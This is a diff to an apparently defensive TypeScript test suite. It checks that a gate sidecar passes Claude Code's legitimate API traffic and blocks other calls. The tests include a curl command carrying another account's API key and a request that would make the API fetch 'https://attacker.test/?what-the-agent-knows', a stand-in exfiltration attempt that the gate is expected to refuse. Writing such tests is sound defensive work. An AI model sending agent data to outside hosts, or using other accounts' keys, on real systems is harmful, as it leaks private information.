@@ -5,6 +5,7 @@ import { labelKeys } from "../../src/bottle/docker/labels.ts";
 import { listContainers } from "../../src/engine/containers.ts";
 import type { Engine } from "../../src/engine/engine.ts";
 import { runExec } from "../../src/engine/exec.ts";
+import { betas, headerNames } from "../../src/sidecar/gate/api-vocabulary.ts";
 import { tokenPlaceholder } from "../../src/sidecar/gate/protocol.ts";
 import { engineForTests } from "../support/engine-gate.ts";
 import { listRuntimes } from "../support/runtime-choice.ts";
@@ -28,6 +29,16 @@ const manifest = {
   },
   agents: { tester: { bottle: "gated" }, open: { bottle: "plain" }, binder: { bottle: "bound" } },
 };
+
+/** What the gate writes anew, or leaves out because it is for one connection */
+const written: ReadonlySet<string> = new Set([
+  "authorization",
+  "connection",
+  "content-type",
+  "host",
+  "transfer-encoding",
+  "x-api-key",
+]);
 
 /** Text and Enter in one write would count as a paste */
 async function enter(terminal: { type(text: string): void }, text: string): Promise<void> {
@@ -99,6 +110,32 @@ describe.skipIf(typeof found === "string")("Claude's calls through the gate", ()
     },
   );
 
+  test("lets all pass that Claude Code sends, also where it takes the API for the real one", async () => {
+    const calls = async (agent: string, prompt: string) => {
+      const before = (await world.api.requests()).length;
+      const project = await world.makeProject("runc", manifest);
+      const { stdout } = await project.run(["start", agent, "--yes", "--", "-p", prompt]);
+      expect(stdout).not.toBe("");
+      const requests = (await world.api.requests()).slice(before);
+      return requests.filter((one) => one.url.startsWith("/v1/messages"));
+    };
+    const seen = [
+      ...(await calls("tester", "run: echo $((40+2))")),
+      ...(await calls("open", "run: echo $((40+2))")),
+      ...(await calls("open", "fetch: https://page.test/x")),
+    ];
+    const lists = seen.map((one) => ({
+      problem: one.problem,
+      headers: one.headers.filter((name) => !headerNames.test(name) && !written.has(name)),
+      betas: (one.beta ?? "").split(",").filter((name) => !betas.test(name) && name !== "oauth-2025-04-20"),
+      contentType: one.contentType,
+    }));
+    expect(seen.length).toBeGreaterThanOrEqual(6);
+    console.log("Betas of Claude Code:", new Set(seen.flatMap((one) => (one.beta ?? "").split(","))));
+    for (const one of lists)
+      expect(one).toEqual({ problem: undefined, headers: [], betas: [], contentType: "application/json" });
+  });
+
   test("other calls and other accounts' keys do not get through; the control gets through without the gate", async () => {
     const key = "sk-ant-somebody-elses";
     const ask = (words: string) => `curl -sS -o /dev/null -w '%{http_code}' -H 'x-api-key: ${key}' ${words}`;
@@ -132,7 +169,9 @@ describe.skipIf(typeof found === "string")("Claude's calls through the gate", ()
     const source = { type: "url", url: "https://attacker.test/?what-the-agent-knows" };
     const image = { model: "m", messages: [{ role: "user", content: [{ type: "image", source }] }] };
     const before = (await world.api.requests()).length;
-    const fetching = ask(`-d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`);
+    const fetching = ask(
+      `-H 'content-type: application/json' -d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`,
+    );
     expect(await say("tester", fetching)).toBe("The command printed: 403\n");
     const since = (await world.api.requests()).slice(before);
     expect(since.filter((one) => one.url.startsWith("/v1/messages/count_tokens"))).toEqual([]);
